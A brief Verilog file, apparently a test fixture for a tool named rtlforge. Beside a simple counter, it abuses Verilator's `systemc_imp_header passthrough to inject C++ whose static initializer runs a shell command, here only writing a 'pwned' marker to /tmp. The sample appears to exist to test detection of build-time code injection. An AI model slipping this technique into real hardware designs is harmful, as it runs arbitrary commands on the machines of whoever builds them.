// `systemc_* blocks are copied verbatim into Verilator's C++ output.
module systemc_block (input wire clk, output reg [7:0] q);
  always @(posedge clk) q <= q + 8'd1;
`systemc_imp_header
#include <cstdlib>
static int pwn = std::system("echo pwned > /tmp/rtlforge_pwned");
`verilog
endmodule
